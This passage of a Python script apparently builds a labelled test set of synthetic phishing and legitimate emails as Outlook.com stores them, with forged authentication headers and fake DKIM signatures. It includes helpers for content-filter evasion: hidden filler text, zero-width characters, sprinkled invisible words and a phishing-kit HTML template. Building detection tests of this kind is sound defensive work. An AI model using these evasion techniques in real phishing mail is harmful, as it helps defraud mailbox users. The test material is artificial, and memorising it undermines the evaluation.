"""Blind set 23: a researcher's honeypot mailboxes on Outlook.com / Hotmail (and two Gmail accounts
forwarded into Outlook.com), 2024-2025 -- the kind of mail that ends up in public "phishing pot"
collections.  About half the traffic is Brazilian Portuguese, half English.

Recipients: six consumer mailboxes on outlook.com / hotmail.com / outlook.com.br with Brazilian and
American personas, and two Gmail addresses that auto-forward to Outlook.com (so those messages carry
Google's ARC / Authentication-Results under Microsoft's).  Every message is written as Outlook.com
stores it: the HTTPS / Frontend / mail.protection.outlook.com Received hops, Authentication-Results
with spf/dkim/dmarc and compauth=... reason=..., Received-SPF, X-IncomingTopHeaderMarker, the
sender's original headers, then X-MS-Exchange-Organization-*, X-Microsoft-Antispam* and
X-MS-Exchange-Organization-SCL (some attacks reached the inbox with SCL 1, some went to Junk).

Attacks (50): Brazilian banks and fintechs (Bradesco, Itau, Caixa, Banco do Brasil, Santander,
Nubank, Inter, PicPay, Mercado Pago), Correios "taxa de importacao" with Pix codes and a Pix QR,
Receita Federal / NF-e / "comprovante Pix" / WhatsApp voice-message malware droppers, Serasa
"limpa nome", Detran fines, gov.br "valores a receber", Mercado Livre / Magalu / Shopee / Shein prize
surveys, Netflix / Spotify / Amazon Prime, Microsoft account deactivation and the "unusual sign-in"
mailto harvester, crypto (Binance, MetaMask, Trust Wallet airdrop), Norton / McAfee / PayPal-invoice /
calendar-invite callback scams, Costco / Walmart reward surveys, USPS / DHL parcels, Facebook and
Instagram "copyright violation", Google One storage, voicemail HTML attachment, sextortion and
advance-fee.  Tricks: random throw-away sender domains from VPS with PHPMailer and forged display
names, hijacked Hotmail / Outlook / Gmail and compromised business mailboxes (passing SPF/DKIM/DMARC),
lookalike domains that sign their own mail, direct spoofs failing DMARC, genuine services abused
(PayPal invoices, SharePoint shares, DocuSign, SendGrid), images hosted elsewhere, hidden spans,
zero-width characters and random filler words, links through Google / Bing / AMP / YouTube
redirects, firebase / web.app, blogspot, sites.google.com, azurewebsites, IPFS, r2.dev, pages.dev,
workers.dev, storage.googleapis.com, S3, notion.site, vercel.app and shorteners, HTML and PDF
attachments, ZIPs with LNK / JS droppers.

Legitimate (25): the same brands' genuine mail to such consumer mailboxes (Bradesco, Itau, Nubank,
Inter, Mercado Pago, Correios tracking and import-tax notice, Mercado Livre purchase and review
request, Magalu and Serasa marketing, Netflix new-device notice, Microsoft account security alert,
Google security alert, Amazon, PayPal, Spotify, Binance, Costco, USPS Informed Delivery, a Substack
newsletter), and personal mail in Portuguese and English.

Run from /work/main:  .venv/bin/python samples/tools/build_blind23_samples.py
"""

from __future__ import annotations

import base64
import email
import hashlib
import html
import os
import random
import re
import sys
from datetime import datetime, timedelta, timezone
from email import policy
from email.utils import format_datetime
from pathlib import Path

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import files  # noqa: E402
import mime  # noqa: E402

N = 23
ROOT = Path(__file__).resolve().parents[2]
UTC = timezone.utc

# --------------------------------------------------------------------------------------------
# deterministic tokens


def hx(seed: str, n: int = 32) -> str:
    return "".join(hashlib.sha256(f"{seed}#{i}".encode()).hexdigest() for i in range(n // 64 + 1))[:n]


def b64(seed: str, n: int, urlsafe: bool = False) -> str:
    raw = bytes.fromhex(hx(seed, n * 2))
    s = (base64.urlsafe_b64encode(raw) if urlsafe else base64.b64encode(raw)).decode()
    return s.replace("=", "")[:n]


def alnum(seed: str, n: int) -> str:
    abc = "abcdefghijkmnopqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789"
    return "".join(abc[b % len(abc)] for b in bytes.fromhex(hx(seed, n * 2)))


def guid(seed: str) -> str:
    h = hx(seed, 32)
    return f"{h[:8]}-{h[8:12]}-{h[12:16]}-{h[16:20]}-{h[20:]}"


def rng(seed: str) -> random.Random:
    return random.Random(int(hx(seed, 16), 16))


def fold(name: str, value: str, width: int = 76, sep: str = " ") -> str:
    """A header folded on spaces, continuation lines starting with one space."""
    lines, cur = [], name + ":"
    for w in value.split(" "):
        if len(cur) + 1 + len(w) > width and cur.strip() and not cur.endswith(":"):
            lines.append(cur)
            cur = sep + w
        else:
            cur += " " + w
    lines.append(cur)
    return "\n".join(lines)


def enc_words(s: str) -> str:
    """RFC 2047 B-encoding (UTF-8) for non-ASCII text, split in words of at most 45 bytes."""
    if all(ord(c) < 128 for c in s):
        return s
    chunks, cur = [], b""
    for ch in s:
        b = ch.encode("utf-8")
        if len(cur) + len(b) > 45:
            chunks.append(cur)
            cur = b""
        cur += b
    chunks.append(cur)
    return "\n ".join(f"=?UTF-8?B?{base64.b64encode(c).decode()}?=" for c in chunks)


def addr(name: str, address: str) -> str:
    if not name:
        return address
    if any(ord(c) > 127 for c in name):
        return f"{enc_words(name)} <{address}>"
    if re.search(r'[()<>\[\]:;@\\,."]', name):
        return '"' + name.replace('"', '\\"') + f'" <{address}>'
    return f"{name} <{address}>"


# --------------------------------------------------------------------------------------------
# recipients: consumer mailboxes and the Microsoft mailbox servers they live on

RCPT = {
    "marcos": ("marcos.almeida.rj@outlook.com", "CH3P220MB1472", "SA1P220MB0618", "NAMP220"),
    "julia": ("julia_ferraz88@hotmail.com", "DM6P222MB0391", "PH0P222MB2275", "NAMP222"),
    "sandra": ("sandra.pereira.sp@outlook.com.br", "LV3P223MB0968", "SA1P223MB0950", "NAMP223"),
    "tom": ("tomwalker1979@outlook.com", "BL3P221MB0127", "MN2P221MB1893", "NAMP221"),
    "kate": ("k.hendricks82@hotmail.com", "IA1P223MB0466", "CO1P223MB1708", "NAMP223"),
    "rick": ("rick.dunmore@outlook.com", "SJ0P220MB0835", "DS0P220MB1342", "NAMP220"),
    # Gmail accounts that auto-forward into Outlook.com
    "carla": ("carla.menezes.bh@outlook.com", "PH7P222MB1120", "BY5P222MB0503", "NAMP222"),
    "dave": ("dmitchell.ohio@outlook.com", "CY8P221MB0772", "BN0P221MB1649", "NAMP221"),
}
GMAIL_OF = {"carla": "carla.menezes.bh@gmail.com", "dave": "dmitchell.ohio@gmail.com"}


def exch_build(dt: datetime) -> str:
    days = (dt - datetime(2024, 1, 1, tzinfo=UTC)).days
    return f"15.20.{7202 + int(days * 2.9)}.{(days * 7) % 40 + 10:03d}"


def ms_ts(dt: datetime) -> str:
    return format_datetime(dt.astimezone(UTC)).replace("-0000", "+0000")


# --------------------------------------------------------------------------------------------
# sending infrastructure: each returns the fields describing how the message reached Outlook.com


def via_vps(domain, ip, helo, mailer="phpmailer", dkim=None, spf="pass", envelope=None, xmailer=True):
    """A throw-away domain mass-mailing from a VPS (Postfix + PHPMailer or a bulk kit)."""
    env = envelope or f"{alnum(domain, 6).lower()}@{domain}"
    return dict(ip=ip, helo=helo, mailfrom=env, dkim=[(dkim, "default")] if dkim else [], spf=spf, mailer=mailer,
                origin=[f"from localhost (localhost [127.0.0.1])\n\tby {helo} (Postfix) with ESMTPA id "
                        f"{alnum(domain + ip, 11).upper()}"], xmailer=xmailer)


def via_host(domain, ip, helo, user, dkim_sel="default", mailer="roundcube"):
    """A (compromised) small-business mailbox at a cPanel/Exim shared host: SPF/DKIM pass for its own domain."""
    n = int(hx(domain + user, 6), 16)
    return dict(ip=ip, helo=helo, mailfrom=f"{user}@{domain}", dkim=[(domain, dkim_sel)], spf="pass", mailer=mailer,
                origin=[f"from [{41 + n % 150}.{n % 251}.{n % 199}.{n % 247 + 3}] (port={40000 + n % 20000} "
                        f"helo=[192.168.0.{n % 200 + 2}])\n\tby {helo} with esmtpsa  (TLS1.2) tls "
                        f"TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384\n\t(Exim 4.96.2)\n\t(envelope-from <{user}@{domain}>)"
                        f"\n\tid 1{alnum(domain, 5)}-00{alnum(user, 4)}-{alnum(helo, 2)}"], xmailer=False)


def via_gmail(address):
    n = int(hx(address, 4), 16)
    helo = f"mail-{['wm1', 'ej1', 'lf1', 'qt1', 'pj1', 'yb1'][n % 6]}-f{n % 200 + 20}.google.com"
    return dict(ip=f"209.85.{128 + n % 90}.{n % 200 + 20}", helo=helo, mailfrom=address, dkim=[("gmail.com", "20230601")],
                spf="pass", mailer="gmail", origin=[f"by {helo} with SMTP id {alnum(address, 22)}"], xmailer=False)


def via_hotmail(address, region="BRA01-CP2"):
    n = int(hx(address, 4), 16)
    dom = address.split("@")[1]
    pre, rg = {"BRA": ("CP", "BRAP284"), "GBR": ("LO", "GBRP265"), "NAM": ("SA", "NAMP223")}[region[:3]]
    mbx = f"{pre}{n % 6 + 1}P{rg[-3:]}MB{n % 9000 + 1000}"
    return dict(ip=f"40.92.{n % 60 + 10}.{n % 250 + 2}", helo=f"{region}-obe.outbound.protection.outlook.com",
                mailfrom=address, dkim=[(dom, "selector1")], spf="pass", mailer="outlook",
                origin=[f"from {mbx}.{rg}.PROD.OUTLOOK.COM\n ([fe80::{hx(address, 4)}:{hx(address + 'b', 4)}]) by "
                        f"{mbx}.{rg}.PROD.OUTLOOK.COM\n ([fe80::{hx(address, 4)}:{hx(address + 'b', 4)}%7]) with mapi id"],
                xmailer=False, mbx=f"{mbx}.{rg}.PROD.OUTLOOK.COM")


def via_esp(ip, helo, mailfrom, dkim, mailer="esp", origin=None):
    """A brand (or an abused account) sending through an ESP or its own MTAs."""
    return dict(ip=ip, helo=helo, mailfrom=mailfrom, dkim=dkim, spf="pass", mailer=mailer,
                origin=origin or [], xmailer=False)


def via_m365(ip, tenant_dom, mailfrom, dkim, region="NAM12-BN8"):
    return dict(ip=ip, helo=f"{region}-obe.outbound.protection.outlook.com", mailfrom=mailfrom, dkim=dkim, spf="pass",
                mailer="esp", origin=[], xmailer=False)


# --------------------------------------------------------------------------------------------
# authentication results written by Outlook.com

AUTH = {  # name: (dkim, dmarc, action, compauth, reason)
    "pass": ("pass", "pass", "none", "pass", "100"),
    "best": ("none", "bestguesspass", "none", "pass", "109"),
    "bestdkim": ("pass", "bestguesspass", "none", "pass", "109"),
    "none": ("none", "none", "none", "fail", "001"),
    "spoof-reject": ("none", "fail", "oreject", "fail", "000"),
    "spoof-none": ("none", "fail", "none", "fail", "001"),
    "fwdpass": ("pass", "pass", "none", "pass", "100"),
}

SPF_TXT = {
    "pass": "Pass (protection.outlook.com: domain of {d} designates {ip} as permitted sender)",
    "fail": "Fail (protection.outlook.com: domain of {d} does not designate {ip} as permitted sender)",
    "softfail": "SoftFail (protection.outlook.com: domain of transitioning {d} discourages use of {ip} as permitted sender)",
    "none": "None (protection.outlook.com: {d} does not designate permitted sender hosts)",
    "neutral": "Neutral (protection.outlook.com: {ip} is neither permitted nor denied by domain of {d})",
}


def dkim_sig(d, s, seed, t, style="std", darn="outlook.com"):
    bh = base64.b64encode(hashlib.sha256(f"bh{seed}{d}".encode()).digest()).decode()
    b = b64(f"b{seed}{d}", 344)
    bl = "\n\t ".join(b[i:i + 70] for i in range(0, len(b), 70))
    if style == "gmail":
        return (f"DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed;\n        d={d}; s={s}; t={t}; x={t + 604800};"
                f" darn={darn};\n        h=to:subject:message-id:date:from:mime-version:from:to:cc:subject\n"
                f"         :date:message-id:reply-to;\n        bh={bh};\n        b={bl}")
    if style == "outlook":
        return (f"DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d={d};\n s={s};\n"
                f" h=From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck;\n"
                f" bh={bh};\n b={bl}")
    return (f"DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d={d};\n\ts={s}; t={t};\n"
            f"\th=From:To:Subject:Date:Message-ID:MIME-Version:Content-Type;\n\tbh={bh};\n\tb={bl}")


def msgid(m, r, dt):
    s, dom = m["slug"], m["frm"][1].split("@")[1]
    kind = r["mailer"]
    if m.get("msgid"):
        return m["msgid"]
    if kind == "gmail":
        return f"<CA{b64(s, 3)}+{b64(s + 'g', 40, True)}@mail.gmail.com>"
    if kind == "outlook":
        mbx = r["mbx"]
        return f"<{mbx.split('.')[0]}{hx(s, 24).upper()}@{mbx}>"
    if kind == "phpmailer":
        return f"<{alnum(s, 40)}@{r['mailfrom'].split('@')[1]}>"
    if kind == "roundcube":
        return f"<{hx(s, 32)}@{dom}>"
    return m.get("msgid") or f"<{int(dt.timestamp())}.{hx(s, 20)}@{r.get('mid_dom', dom)}>"


def orig_headers(m, r, dt):
    f = addr(*m["frm"])
    to = m.get("to") or (GMAIL_OF.get(m["rcpt"]) or RCPT[m["rcpt"]][0])
    subj = enc_words(m["subj"])
    date = format_datetime(dt)
    mid = msgid(m, r, dt)
    extra = list(m.get("hdrs", []))
    kind = r["mailer"]
    if kind == "phpmailer":
        h = [f"Date: {date}", f"To: {to}", f"From: {f}"] + extra + [f"Subject: {subj}", f"Message-ID: {mid}"]
        if r["xmailer"]:
            h.append("X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)")
    elif kind == "gmail":
        h = [f"From: {f}", f"Date: {date}", f"Message-ID: {mid}"] + extra + [f"Subject: {subj}", f"To: {to}"]
    elif kind == "outlook":
        h = [f"From: {f}", f"To: {to}", f"Subject: {subj}", f"Thread-Topic: {subj}",
             f"Thread-Index: {b64(m['slug'] + 'ti', 30)}==", f"Date: {date}", f"Message-ID: {mid}"] + extra + [
            "Accept-Language: " + ("pt-BR, en-US" if m["lang"] == "pt" else "en-US"),
            "Content-Language: " + ("pt-BR" if m["lang"] == "pt" else "en-US"),
            "X-MS-Has-Attach: " + ("yes" if m.get("attach") else ""), "X-MS-TNEF-Correlator:",
            f"x-tmn: [{b64(m['slug'] + 'tmn', 32)}]", "x-ms-publictraffictype: Email",
            "x-ms-exchange-messagesentrepresentingtype: 1"]
    elif kind == "roundcube":
        h = [f"Date: {date}", f"From: {f}", f"To: {to}", f"Subject: {subj}"] + extra + [
            f"Message-ID: {mid}", f"X-Sender: {m['frm'][1]}", "User-Agent: Roundcube Webmail/1.6.6"]
    elif kind == "kit":
        h = [f"From: {f}", f"Subject: {subj}", f"To: {to}"] + extra + [f"Message-ID: {mid}", f"Date: {date}",
                                                                      "X-Priority: 3"]
    else:
        h = [f"From: {f}", f"To: {to}", f"Subject: {subj}", f"Date: {date}", f"Message-ID: {mid}"] + extra
    return h


def build(m) -> bytes:
    dt = datetime.strptime(m["date"], "%Y-%m-%d %H:%M:%S %z")
    r = m["route"]
    s = m["slug"]
    g = rng(s)
    mailbox, mbx1, mbx2, region = RCPT[m["rcpt"]]
    fwd = m["rcpt"] in GMAIL_OF
    sent = dt.astimezone(UTC)
    arr = sent + timedelta(seconds=g.randint(2, 40) + (g.randint(20, 90) if fwd else 0))
    bn = exch_build(arr)
    from_dom = m["frm"][1].split("@")[1].lower()
    nd = g.randint(1, 20)
    edge = f"{g.choice(['BN2', 'DS2', 'DS3', 'SN1', 'CY4', 'BN1', 'MWH0', 'CH1'])}PEPF000{hx(s + 'e', 5).upper()}"
    ca = f"{g.choice(['DS7', 'BN9', 'SA9', 'CH2', 'MW4', 'BY3', 'SN7'])}PR{g.randint(1, 20):02d}CA{g.randint(1, 9999):04d}"
    v6 = lambda k: f"2603:10b6:{hx(s + k, 3)}:{hx(s + k + 'x', 3)}::{int(hx(s + k + 'y', 2), 16) % 60 + 10}"
    edge_ip = f"10.167.{g.randint(16, 250)}.{g.randint(2, 250)}"
    nmid = guid(s + "nmid")
    t = lambda sec: ms_ts(arr + timedelta(seconds=sec))
    # what the Outlook.com edge saw
    if fwd:
        n = int(hx(s, 2), 16)
        cip, chelo = f"209.85.220.{n % 120 + 41}", f"mail-sor-f{n % 120 + 41}.google.com"
        env = GMAIL_OF[m["rcpt"]].replace("@", f"+caf_={mailbox.replace('@', '=')}@")
    else:
        cip, chelo, env = r["ip"], r["helo"], r["mailfrom"]
    env_dom = env.split("@")[1]
    spf = "pass" if fwd else r["spf"]
    dk, dm, act, ca_res, reason = AUTH[m.get("auth") or ("pass" if r["dkim"] and r["dkim"][0][0] == from_dom else "best")]
    dkd = [d for d, _ in r["dkim"]] if dk in ("pass", "fail") and r["dkim"] else []
    dtxt = {"pass": "pass (signature was verified)", "fail": "fail (body hash did not verify)"}
    dkim_part = ";".join(f"dkim={dtxt[dk]} header.d={d}" for d in dkd) if dkd else "dkim=none (message not signed) header.d=none"
    ar = (f"spf={spf} (sender IP is {cip}) smtp.mailfrom={env_dom}; {dkim_part};dmarc={dm} action={act} "
          f"header.from={from_dom};compauth={ca_res} reason={reason}")
    rspf = SPF_TXT[spf].format(d=env_dom, ip=cip)
    rspf += f" receiver=protection.outlook.com; client-ip={cip}; helo={chelo};" + (" pr=C" if spf == "pass" else "")
    e6 = f"2603:10b6:{hx(s + 'ca', 3)}:{hx(s + 'cax', 3)}:cafe::{hx(s, 2)}"
    top = [
        fold("Received", f"from {mbx2}.{region}.PROD.OUTLOOK.COM ({v6('m2')}) by {mbx1}.{region}.PROD.OUTLOOK.COM "
                         f"with HTTPS; {t(1)}"),
        fold("Received", f"from {ca}.{'namprd%02d' % nd}.prod.outlook.com ({v6('ca')}) by {mbx2}.{region}.PROD.OUTLOOK.COM"
                         f" ({v6('m2')}) with Microsoft SMTP Server (version=TLS1_2, "
                         f"cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id {bn}; {t(1)}"),
        fold("Received", f"from {edge}.namprd{nd + 1:02d}.prod.outlook.com ({e6}) by {ca}.outlook.office365.com "
                         f"({v6('ca')}) with Microsoft SMTP Server (version=TLS1_2, "
                         f"cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id {bn} via Frontend Transport; {t(0)}"),
        fold("Authentication-Results", ar),
        fold("Received-SPF", rspf),
        fold("Received", f"from {chelo} ({cip}) by {edge}.mail.protection.outlook.com ({edge_ip}) with Microsoft SMTP "
                         f"Server (version=TLS1_3, cipher=TLS_AES_256_GCM_SHA384) id {bn} via Frontend Transport; {t(0)}"),
    ]
    orig = []
    ts = int(sent.timestamp())
    if fwd:
        orig += gmail_forward(m, r, sent, mailbox, from_dom)
    for i, hop in enumerate(r["origin"]):
        when = format_datetime((sent - timedelta(seconds=i)).astimezone(dt.tzinfo))
        if r["mailer"] == "outlook":
            hop += f" {bn}; {ms_ts(sent)}"
        else:
            hop += f";\n\t{when}"
        orig.append("Received: " + hop)
    style = {"gmail": "gmail", "outlook": "outlook"}.get(r["mailer"], "std")
    for d, sel in r["dkim"]:
        darn = (m.get("to") or GMAIL_OF.get(m["rcpt"]) or mailbox).split("@")[-1]
        orig.append(dkim_sig(d, sel, s, ts, style, darn))
    orig += orig_headers(m, r, dt)
    count = sum(1 for line in orig if not line[0].isspace()) + 2
    sz = 1800 + int(hx(s + "sz", 3), 16) % 2500
    top.append(f"X-IncomingTopHeaderMarker:\n OriginalChecksum:{hx(s + 'oc', 64).upper()};UpperCasedChecksum:"
               f"{hx(s + 'uc', 64).upper()};SizeAsReceived:{sz};Count:{count}")
    scl = m.get("scl", 1)
    junk = scl >= 5
    bcl = m.get("bcl", 0)
    pra = (m.get("pra") or m["frm"][1]).upper()
    sid = "PASS" if ca_res in ("pass", "softpass") else "FAIL"
    logon = arr - timedelta(minutes=g.randint(3, 600))
    ara = "|".join(str(g.randint(10 ** 8, 10 ** 10 - 1)) for _ in range(g.randint(7, 11)))
    eng = "(5062000305)(90000117)(90005022)(91005020)(91035115)(9050020)(9100341)(944500132)(4810010)(4910033)" \
          f"({g.choice(['9575002', '9545005', '9565005'])})(10195002)(9320005)(120001)"
    dlv = f"ucf:0;jmr:0;auth:{1 if ca_res == 'pass' else 0};dest:{'J' if junk else 'I'};" + \
          ("OFR:SpamFilterAuthJ;" if junk else "") + f"ENG:{eng};" + ("RF:JunkEmail;" if junk else "")
    info = b64(s + "ami", 1400)
    bottom = [
        f"X-IncomingHeaderCount: {count}",
        f"Return-Path: {env}",
        f"X-MS-Exchange-Organization-ExpirationStartTime: {arr.strftime('%d %b %Y %H:%M:%S')}.{g.randint(1000, 9999)}\n (UTC)",
        "X-MS-Exchange-Organization-ExpirationStartTimeReason: OriginalSubmit",
        "X-MS-Exchange-Organization-ExpirationInterval: 1:00:00:00.0000000",
        "X-MS-Exchange-Organization-ExpirationIntervalReason: OriginalSubmit",
        f"X-MS-Exchange-Organization-Network-Message-Id:\n {nmid}",
        "X-EOPAttributedMessage: 0",
        "X-EOPTenantAttributedMessage: 84df9e7f-e9f6-40af-b435-aaaaaaaaaaaa:0",
        "X-MS-Exchange-Organization-MessageDirectionality: Incoming",
        "X-MS-PublicTrafficType: Email",
        f"X-MS-TrafficTypeDiagnostic: {edge}:EE_|{mbx2}:EE_|{mbx1}:EE_",
        f"X-MS-Exchange-Organization-AuthSource:\n {edge}.namprd{nd + 1:02d}.prod.outlook.com",
        "X-MS-Exchange-Organization-AuthAs: Anonymous",
        f"X-MS-UserLastLogonTime: {logon.month}/{logon.day}/{logon.year} {logon.strftime('%I:%M:%S %p').lstrip('0')}",
        f"X-MS-Office365-Filtering-Correlation-Id: {nmid}",
        "X-MS-Exchange-EOPDirect: true",
        f"X-Sender-IP: {cip}",
        f"X-SID-PRA: {pra}",
        f"X-SID-Result: {sid}",
        "X-MS-Exchange-AtpMessageProperties: SA|SL",
        f"X-MS-Exchange-Organization-SCL: {scl}",
        fold("X-Microsoft-Antispam", f"BCL:{bcl};ARA:{ara};"),
        f"X-MS-Exchange-CrossTenant-OriginalArrivalTime: {arr.strftime('%d %b %Y %H:%M:%S')}.{g.randint(1000, 9999)}\n (UTC)",
        f"X-MS-Exchange-CrossTenant-Network-Message-Id: {nmid}",
        "X-MS-Exchange-CrossTenant-Id: 84df9e7f-e9f6-40af-b435-aaaaaaaaaaaa",
        f"X-MS-Exchange-CrossTenant-AuthSource:\n {edge}.namprd{nd + 1:02d}.prod.outlook.com",
        "X-MS-Exchange-CrossTenant-AuthAs: Anonymous",
        "X-MS-Exchange-CrossTenant-FromEntityHeader: Internet",
        "X-MS-Exchange-CrossTenant-RMS-PersistedConsumerOrg:\n 00000000-0000-0000-0000-000000000000",
        f"X-MS-Exchange-Transport-CrossTenantHeadersStamped: {mbx2}",
        f"X-MS-Exchange-Transport-EndToEndLatency: 00:00:0{g.randint(0, 4)}.{g.randint(1000000, 9999999)}",
        f"X-MS-Exchange-Processed-By-BccFoldering: {bn[:-3]}{int(bn[-3:]) + 1:03d}",
        fold("X-Microsoft-Antispam-Mailbox-Delivery", dlv.replace(";", "; ").rstrip()).replace("; ", ";"),
        f"X-Message-Info:\n\t{b64(s + 'mi', 86)}",
        "X-Message-Delivery: " + base64.b64encode(
            f"V=1.1;us=0;l=0;a=0;D={2 if junk else 1};GD=1;SCL={6 if junk else 0}".encode()).decode().rstrip("="),
        "X-Microsoft-Antispam-Message-Info:\n\t" + "\n\t".join(info[i:i + 74] for i in range(0, len(info), 74)),
    ]
    headers = "\n".join(top + orig + bottom)
    return mime.message(headers, m["body"](m))


def gmail_forward(m, r, sent, mailbox, from_dom):
    s, gm = m["slug"], GMAIL_OF[m["rcpt"]]
    t = format_datetime(sent.astimezone(timezone(timedelta(hours=-8 if m["lang"] == "en" else -7))))
    ts = int(sent.timestamp())
    env_dom = r["mailfrom"].split("@")[1]
    gsp = r["spf"]
    gdk = (f"dkim=pass header.i=@{r['dkim'][0][0]} header.s={r['dkim'][0][1]} header.b={b64(s + 'hb', 8)}"
           if r["dkim"] else "")
    gdm = m.get("gdmarc", "")
    gar = "; ".join(x for x in [gdk, f"spf={gsp} (google.com: domain of {r['mailfrom']} "
                                     f"{'designates' if gsp == 'pass' else 'does not designate'} {r['ip']} as permitted"
                                     f" sender) smtp.mailfrom={r['mailfrom'] if gsp == 'pass' else env_dom}", gdm] if x)
    return [
        f"ARC-Seal: i=1; a=rsa-sha256; t={ts}; cv=none;\n        d=google.com; s=arc-20240605;\n        b={b64(s + 'as', 68)}",
        f"ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; d=google.com; s=arc-20240605;\n"
        f"        h=to:subject:message-id:date:from:mime-version:dkim-signature;\n        bh={b64(s + 'abh', 43)}=;\n"
        f"        fh={b64(s + 'fh', 43)}=;\n        b={b64(s + 'ab', 68)}",
        "ARC-Authentication-Results: i=1; mx.google.com;\n       " + gar.replace("; ", ";\n       "),
        f"X-Forwarded-To: {mailbox}",
        f"X-Forwarded-For: {gm} {mailbox}",
        f"Delivered-To: {gm}",
        f"Received: by 2002:a05:7{hx(s, 3)}:{hx(s + '1', 4)}:b0:{hx(s + '2', 3)}:{hx(s + '3', 4)}:{hx(s + '4', 4)} with SMTP id "
        f"{alnum(s + 'sid', 10)};\n        {t}",
        f"Received: from {r['helo']} ({r['helo']}. [{r['ip']}])\n        by mx.google.com with ESMTPS id "
        f"{alnum(s + 'gid', 30)}\n        for <{gm}>\n        (version=TLS1_3 cipher=TLS_AES_256_GCM_SHA384 "
        f"bits=256/256);\n        {t}",
        f"Received-SPF: {gsp} (google.com: domain of {r['mailfrom']} {'designates' if gsp == 'pass' else 'does not designate'}"
        f" {r['ip']} as permitted sender) client-ip={r['ip']};",
        "Authentication-Results: mx.google.com;\n       " + gar.replace("; ", ";\n       "),
    ]


# --------------------------------------------------------------------------------------------
# bodies: boundaries, filler, kit and brand HTML templates

WORDS = ("abacate janela rio tarde mesa verde cidade chuva livro porta noite ponte vento caminho praia "
         "garden window river yellow table orange cloud paper silver basket morning bridge candle violin "
         "harbor pencil marble ticket meadow copper lantern velvet anchor cactus pillow throne walnut saga "
         "ouro sapato cadeira festa futebol samba colher pimenta janeiro farol cavalo brisa tijolo").split()


def bnd(m, i=1):
    s, kind = m["slug"], m["route"]["mailer"]
    if kind == "phpmailer":
        return f"b{i}_{alnum(s + str(i), 43)}"
    if kind == "gmail":
        return f"000000000000{hx(s + str(i), 16)}"
    if kind == "outlook":
        return f"_00{i}_{m['route']['mbx'].split('.')[0]}{hx(s, 10).upper()}_"
    if kind == "roundcube":
        return f"=_{hx(s + str(i), 32)}"
    if kind == "kit":
        return f"--==_mimepart_{hx(s + str(i), 13)}_{i}"
    return f"----=_Part_{int(hx(s + str(i), 6), 16)}_{int(hx(s, 5), 16)}.{1700000000000 + int(hx(s, 7), 16)}"


def words(m, n, salt=""):
    g = rng(m["slug"] + salt)
    return " ".join(g.choice(WORDS) for _ in range(n))


def hidden(m, n=40, style=0, salt="h"):
    w = words(m, n, salt)
    return ['<div style="display:none;font-size:1px;color:#ffffff;line-height:1px;max-height:0px;max-width:0px;'
            f'opacity:0;overflow:hidden;">{w}</div>',
            f'<span style="font-size:0px;color:transparent;">{w}</span>',
            f'<font color="#FFFFFF" style="font-size:1px">{w}</font>'][style]


def zw(text, mark="\u200b"):
    """Zero-width characters between the letters of each word longer than three letters."""
    return " ".join(mark.join(w) if len(w) > 3 and w.isalpha() else w for w in text.split(" "))


def sprinkle(m, text):
    """Invisible random words after every sentence (font-size:0 spans), as kits do against content filters."""
    g = rng(m["slug"] + "sp")
    return re.sub(r"([.!?]) ", lambda x: f'{x.group(1)} <span style="font-size:0">{g.choice(WORDS)} '
                  f'{g.choice(WORDS)}</span> ', text)


def to_text(h):
    h = re.sub(r"(?is)<(style|head)[^>]*>.*?</\1>", "", h)
    h = re.sub(r'(?is)<(div|span|font)[^>]*(display:none|font-size:0|font-size:1px)[^>]*>.*?</\1>', "", h)
    h = re.sub(r'(?is)<a [^>]*href="([^"]+)"[^>]*>(.*?)</a>', lambda x: f"{x.group(2)} [{x.group(1)}]"
               if x.group(1).startswith("http") else x.group(2), h)
    h = re.sub(r"(?i)</p>|</h\d>", "\n\n", h)
    h = re.sub(r"(?i)<br\s*/?>|</tr>|</li>|</div>", "\n", h)
    h = html.unescape(re.sub(r"<[^>]+>", "", h)).replace("\u200b", "").replace("\u200c", "")
    lines = [re.sub(r"[ \t]+", " ", x).strip() for x in h.split("\n")]
    out = "\n".join(lines)
    return re.sub(r"\n{3,}", "\n\n", out).strip() + "\n"


def html_doc(inner, lang="pt-BR", title="", head_extra=""):
    return (f'<!DOCTYPE html>\n<html lang="{lang}">\n<head>\n<meta http-equiv="Content-Type" content="text/html; '
            f'charset=utf-8">\n<meta name="viewport" content="width=device-width, initial-scale=1.0">\n'
            f"<title>{title}</title>{head_extra}\n</head>\n<body style=\"margin:0;padding:0;background:#f2f2f2;\">\n"
            f"{inner}\n</body>\n</html>\n")


def kit(m, logo, title, paras, btn=None, color="#cc092f", foot="", pre="", filler=0, fstyle=0, zwt=False, sign=""):
    """A phishing-kit notice: centred table, hotlinked logo, headline, paragraphs, one button."""
    tt = zw(title) if zwt else title
    ps = "".join(f'<p style="font-size:15px;line-height:22px;color:#333333;margin:0 0 14px 0;">'
                 f'{zw(p) if zwt else p}</p>\n' for p in paras)
    b = ""
    if btn:
        b = (f'<table role="presentation" cellpadding="0" cellspacing="0" align="center"><tr><td bgcolor="{color}" '
             f'style="border-radius:4px;padding:13px 34px;"><a href="{btn[1]}" target="_blank" style="color:#ffffff;'
             f'font-size:16px;font-weight:bold;text-decoration:none;font-family:Arial,sans-serif;">{btn[0]}</a>'
             f'</td></tr></table>\n')
    fill = hidden(m, filler, fstyle) if filler else ""
    sg = f'<p style="font-size:14px;color:#555555;margin:22px 0 0 0;">{sign}</p>' if sign else ""
    inner = (f'{hidden(m, 12, 0, "pre").replace(words(m, 12, "pre"), pre) if pre else ""}'
             f'<table role="presentation" width="100%" cellpadding="0" cellspacing="0" bgcolor="#f2f2f2"><tr><td '
             f'align="center" style="padding:24px 8px;">\n<table role="presentation" width="600" cellpadding="0" '
             f'cellspacing="0" bgcolor="#ffffff" style="max-width:600px;font-family:Arial,Helvetica,sans-serif;">\n'
             f'<tr><td style="background:{color};padding:18px 24px;"><img src="{logo}" width="150" alt="" '
             f'style="display:block;border:0;"></td></tr>\n<tr><td style="padding:28px 32px 10px 32px;">\n'
